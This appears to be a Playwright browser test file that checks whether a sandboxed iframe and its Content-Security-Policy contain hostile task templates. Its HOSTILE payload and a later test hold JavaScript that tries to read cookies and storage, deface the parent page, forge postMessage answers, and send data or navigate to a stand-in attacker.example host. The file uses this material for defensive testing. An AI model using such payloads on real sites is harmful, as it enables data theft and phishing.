"""The task frame in a real browser (Chromium through Playwright, against the live server):
hostile templates are stopped by the sandbox and the Content-Security-Policy, and the engineer's
preview page works end to end."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, Request, Route, expect, sync_playwright

from tests.conftest import Org, make_org

# Playwright's sync API runs an event loop in this thread; the ORM calls made here are plain
# blocking calls between browser steps.
os.environ.setdefault("DJANGO_ALLOW_ASYNC_UNSAFE", "true")

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--no-first-run",
    "--disable-sync",
]
ADMIN_PASSWORD = "pw-Admin-123!"


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path="/usr/bin/chromium", args=CHROMIUM_ARGS)
        try:
            yield browser
        finally:
            browser.close()


class Watch:
    """Every request the page makes, every request that tried to leave the server (intercepted and
    answered locally), and console errors."""

    def __init__(self, page: Page, base_url: str) -> None:
        self.base = urlsplit(base_url)
        self.requests: list[str] = []
        self.escaped: list[str] = []
        self.console_errors: list[str] = []
        self.failed: dict[str, str] = {}
        page.on("request", self._on_request)
        page.on("requestfailed", lambda r: self.failed.__setitem__(r.url, r.failure or ""))
        page.on("console", lambda m: self.console_errors.append(m.text) if m.type == "error" else None)
        page.route("**/*", self._route)

    def _local(self, url: str) -> bool:
        parts = urlsplit(url)
        return parts.scheme in ("data", "blob", "about") or parts.netloc == self.base.netloc

    def _on_request(self, request: Request) -> None:
        self.requests.append(request.url)

    def _route(self, route: Route) -> None:
        if self._local(route.request.url):
            route.continue_()
        else:
            # Stands in for the outside world (nothing leaves the machine): recorded, answered
            # with a page of our own.
            self.escaped.append(route.request.url)
            route.fulfill(status=200, content_type="text/html", body="<p id='outside'>outside world</p>")


def sign_in(page: Page, base_url: str, email: str, password: str) -> None:
    page.goto(f"{base_url}/accounts/login/")
    page.fill("input[name=login]", email)
    page.fill("input[name=password]", password)
    page.locator("form").filter(has=page.locator("input[name=password]")).locator("button[type=submit]").click()
    page.wait_for_load_state("load")
    assert "/accounts/login/" not in page.url, page.content()[:2000]


@pytest.fixture
def engineer_page(browser: Browser, live_server_url: str) -> Iterator[tuple[Page, Org, Watch]]:
    org = make_org()
    context = browser.new_context()
    page = context.new_page()
    watch = Watch(page, live_server_url)
    sign_in(page, live_server_url, org.admin.email, ADMIN_PASSWORD)
    page.goto(f"{live_server_url}/task-uis/preview/")
    try:
        yield page, org, watch
    finally:
        context.close()


def render_in_preview(page: Page, template: str, task_input: str = "{}") -> None:
    page.fill("#template", template)
    page.fill("#input", task_input)
    page.click("#render")


HOSTILE = r"""
<p id="ready">hostile template</p>
<form id="exfil" action="https://attacker.example/steal" method="post"><input name="x" value="1"></form>
<script>
(async function () {
  const out = {};
  function record(name, fn) {
    try { out[name] = "ALLOWED: " + String(fn()); } catch (e) { out[name] = "blocked: " + e.name; }
  }
  record("parentDocument", () => parent.document.body.innerHTML = "<h1>pwned</h1>");
  record("topDocument", () => top.document.title);
  record("parentLocation", () => parent.location.href);
  record("cookie", () => document.cookie);
  record("localStorage", () => localStorage.getItem("x"));
  record("sessionStorage", () => sessionStorage.getItem("x"));
  record("topNavigation", () => { top.location.href = "https://attacker.example/nav"; return "assigned"; });
  record("windowOpen", () => { const w = window.open("https://attacker.example/popup"); return w ? "opened" : null; });
  async function tryFetch(name, url, options) {
    try { const r = await fetch(url, options); out[name] = "ALLOWED: " + r.status; }
    catch (e) { out[name] = "blocked: " + e.name; }
  }
  await tryFetch("fetchOtherOrigin", "https://attacker.example/steal?c=1");
  await tryFetch("fetchOwnApi", location.origin + "/api/v1/", {credentials: "include"});
  await tryFetch("fetchLoopbackApi", "http://127.0.0.1:1/api/v1/");
  try {
    const xhr = new XMLHttpRequest();
    xhr.open("GET", location.origin + "/task-uis/preview/", false);
    xhr.send();
    out.xhr = "ALLOWED: " + xhr.status;
  } catch (e) { out.xhr = "blocked: " + e.name; }
  await new Promise((resolve) => {
    const img = new Image();
    img.onload = () => { out.imageBeacon = "ALLOWED"; resolve(); };
    img.onerror = () => { out.imageBeacon = "blocked: error"; resolve(); };
    img.src = "https://attacker.example/pixel.gif?c=1";
  });
  await new Promise((resolve) => {
    const s = document.createElement("script");
    s.onload = () => { out.externalScript = "ALLOWED"; resolve(); };
    s.onerror = () => { out.externalScript = "blocked: error"; resolve(); };
    s.src = "https://attacker.example/evil.js";
    document.head.appendChild(s);
  });
  record("eval", () => eval("1 + 1"));
  record("forgedAnswer", () => {
    const forged = {source: "loupe-task-frame", type: "submit", token: "forged", answerContent: {stolen: true}};
    parent.postMessage(forged, "*");
    return "posted";
  });
  record("formSubmit", () => { document.getElementById("exfil").submit(); return "submitted"; });
  const pre = document.createElement("pre");
  pre.id = "results";
  pre.textContent = JSON.stringify(out);
  document.body.appendChild(pre);
})();
</script>
"""


def test_hostile_template_is_contained_by_the_sandbox_and_the_policy(
    engineer_page: tuple[Page, Org, Watch], live_server_url: str
) -> None:
    page, _org, watch = engineer_page
    preview_url = page.url
    parent_before = page.locator("h1").inner_text()

    # when a hostile template is rendered in the real frame
    render_in_preview(page, HOSTILE)
    frame = page.frame_locator("#task-frame")
    results_text = frame.locator("#results").text_content(timeout=15_000)
    assert results_text
    results = json.loads(results_text)

    # then every attempt was stopped
    assert results == {
        "parentDocument": "blocked: SecurityError",
        "topDocument": "blocked: SecurityError",
        "parentLocation": "blocked: SecurityError",
        "cookie": "blocked: SecurityError",
        "localStorage": "blocked: SecurityError",
        "sessionStorage": "blocked: SecurityError",
        "topNavigation": "blocked: SecurityError",
        "windowOpen": "ALLOWED: null",  # window.open returned no window: no popup was opened
        "fetchOtherOrigin": "blocked: TypeError",
        "fetchOwnApi": "blocked: TypeError",
        "fetchLoopbackApi": "blocked: TypeError",
        "xhr": "blocked: NetworkError",
        "imageBeacon": "blocked: error",
        "externalScript": "blocked: error",
        "eval": "blocked: EvalError",
        "forgedAnswer": "ALLOWED: posted",
        "formSubmit": "ALLOWED: submitted",  # the call returns, but form-action 'none' stops it (below)
    }
    page.wait_for_timeout(500)
    # the frame did not navigate away (the form post and the top navigation went nowhere)
    expect(frame.locator("#ready")).to_have_text("hostile template")

    # and the parent page is unchanged: same URL, its own heading, no forged answer shown
    assert page.url == preview_url
    assert page.locator("h1").inner_text() == parent_before
    assert "pwned" not in page.content()
    assert page.locator("#answer-content").inner_text() == ""
    assert len(page.context.pages) == 1

    # and no request left the server: the browser blocked each attempt itself (by the policy)
    # before the network, so none reached the interception that aborts anything not local
    assert watch.escaped == []
    attempts = [u for u in watch.requests if "attacker.example" in u]
    assert attempts
    assert {watch.failed.get(u) for u in attempts} <= {"csp", "net::ERR_BLOCKED_BY_CSP"}
    # and the API was never called from the frame
    assert not [u for u in watch.requests if urlsplit(u).path.startswith("/api/")]


def test_frame_token_mismatch_is_ignored_by_the_portal_side_script(
    engineer_page: tuple[Page, Org, Watch],
) -> None:
    page, _org, _watch = engineer_page
    # given a frame that posts an answer with someone else's token, then with its own
    template = """
    <script>
      parent.postMessage({source: "loupe-task-frame", type: "submit", token: "not-mine", answerContent: {a: 1}}, "*");
      setTimeout(function () { window.LoupeFrame.submit({b: 2}); }, 200);
    </script>
    """
    render_in_preview(page, template)
    # then only the answer carrying the frame's own token is shown
    expect(page.locator("#answer-content")).to_have_text(json.dumps({"b": 2}, indent=2), timeout=15_000)


def test_preview_flow_renders_fills_submits_and_shows_answer_content(
    engineer_page: tuple[Page, Org, Watch],
) -> None:
    page, _org, watch = engineer_page
    template = """<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>
<crowd-form>
  <p id="question">Describe {{ task.input.subject }}</p>
  <crowd-input name="description" label="Description" required></crowd-input>
  <crowd-checkbox name="flags" value="blurry">Blurry</crowd-checkbox>
</crowd-form>"""

    # when the engineer types a template and an input, renders, and fills the form in the frame
    render_in_preview(page, template, '{"subject": "the cat\'s \\"hat\\""}')
    frame = page.frame_locator("#task-frame")
    expect(frame.locator("#question")).to_have_text('Describe the cat\'s "hat"', timeout=15_000)
    field = frame.locator("crowd-input[name=description] input")
    field.fill("A red hat")
    frame.locator("crowd-checkbox[name=flags]").click()
    frame.get_by_role("button", name="Submit").click()

    # then the answerContent appears as pretty JSON on the page
    expect(page.locator("#answer-content")).not_to_have_text("", timeout=15_000)
    answer = json.loads(page.locator("#answer-content").inner_text())
    assert answer == {"description": "A red hat", "flags": {"blurry": True}}
    assert page.locator("#answer-content").inner_text() == json.dumps(answer, indent=2)
    assert watch.escaped == []
    assert watch.console_errors == []


def test_preview_shows_template_and_input_errors_on_the_page(engineer_page: tuple[Page, Org, Watch]) -> None:
    page, _org, _watch = engineer_page

    render_in_preview(page, "<p>{{ task.input.x | no_such_filter }}</p>")
    expect(page.locator("#errors")).to_contain_text("unknown filter 'no_such_filter'", timeout=10_000)

    render_in_preview(page, "<p>ok</p>", "{not json")
    expect(page.locator("#errors")).to_contain_text("not valid JSON")

    render_in_preview(page, "{% for i in (1..1000000000) %}{% endfor %}")
    expect(page.locator("#errors")).to_contain_text("LoopLimitExceeded")
    assert page.locator("#task-frame").get_attribute("src") == "about:blank"


def test_workers_get_403_on_the_preview_page(browser: Browser, live_server_url: str) -> None:
    from tests.reviews.factories import make_worker

    org = make_org()
    worker = make_worker(org, password="pw-Worker-123!")
    context = browser.new_context()
    try:
        page = context.new_page()
        sign_in(page, live_server_url, worker.email, "pw-Worker-123!")
        response = page.goto(f"{live_server_url}/task-uis/preview/")
        assert response is not None
        assert response.status == 403
    finally:
        context.close()


def test_a_template_that_navigates_its_frame_away_is_closed(engineer_page: tuple[Page, Org, Watch]) -> None:
    page, _org, watch = engineer_page
    # given a template that replaces itself with another page (a fake sign-in form, say)
    render_in_preview(page, '<p id="bait">task</p><script>location.href = "https://attacker.example/sign-in";</script>')

    # then the host page blanks the frame and says why; the page itself stays
    expect(page.locator("#errors")).to_contain_text("navigated its frame", timeout=15_000)
    assert page.locator("#task-frame").get_attribute("src") == "about:blank"
    assert page.url.endswith("/task-uis/preview/")
    # (the navigation request itself is not something a policy can stop: the test harness answered it)
    assert watch.escaped == ["https://attacker.example/sign-in"]
